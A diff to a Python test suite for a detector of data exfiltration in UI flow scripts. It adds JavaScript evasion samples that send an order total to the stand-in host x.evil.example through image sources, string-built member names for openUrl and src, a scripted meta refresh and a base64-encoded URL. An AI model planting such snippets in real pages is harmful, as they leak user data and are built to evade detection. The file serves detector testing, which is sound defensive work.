@@ -268,6 +268,10 @@ EVASIONS = {
                                    " Reflect.apply(leak, null, [flowUi.get('order.total')]);",
     "throw and catch": "try { throw flowUi.get('order.total'); } catch (err) { new Image().src = 'https://x.evil.example/?' + err; }",
     "arguments": "function leak() { new Image().src = 'https://x.evil.example/?' + arguments[0]; } leak(flowUi.get('order.total'));",
+    # A member named by a string the flow knows: a const, strings joined.
+    "openUrl by a const key": "const k = 'open' + 'Url'; flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
+    "openUrl by a joined key": "const k = ['o', 'pen', 'Url'].join(''); flowUi[k]('https://x.evil.example/?' + flowUi.get('order.total'));",
+    "src by a joined key": "const i = new Image(); const k = ['s', 'rc'].join(''); i[k] = 'https://x.evil.example/?' + flowUi.get('order.total');",
     # A <meta http-equiv=refresh> made in script navigates the block as one in the markup does.
     "meta refresh made in script": "const m = document.createElement('meta'); m.httpEquiv = 'refresh';"
                                    " m.content = '0;url=https://x.evil.example/?' + flowUi.get('order.total'); document.head.append(m);",
@@ -325,9 +329,12 @@ def test_a_platform_promise_and_a_thrown_error_stay_quiet():
 
 
 def test_an_unproven_flow_needs_manual_review():
-    hidden = ("<p></p><script>const t = flowUi.get('order.total'); const k = ['s', 'r', 'c'].join('');\n"
+    hidden = ("<p></p><script>const t = flowUi.get('order.total'); const k = location.hash.slice(1);\n"
               "const i = new Image(); i[k] = atob('aHR0cHM6Ly94LmV2aWwuZXhhbXBsZS8=') + t;</script>")
     assert ("exfil.possible-flow", "medium", ["order.total"], []) in rules_of(hidden, fields=["order.total"])
+    # A member named by strings joined is that member: the sink is followed, the host stays unknown.
+    joined = hidden.replace("location.hash.slice(1)", "['s', 'r', 'c'].join('')")
+    assert ("exfil.state-to-url", "high", ["order.total"], []) in rules_of(joined, fields=["order.total"])
     # State and no way out: quiet. A way out and no data read: quiet.
     assert rules_of("<p></p><script>document.querySelector('p').title = flowUi.get('order.total');</script>",
                     fields=["order.total"]) == []
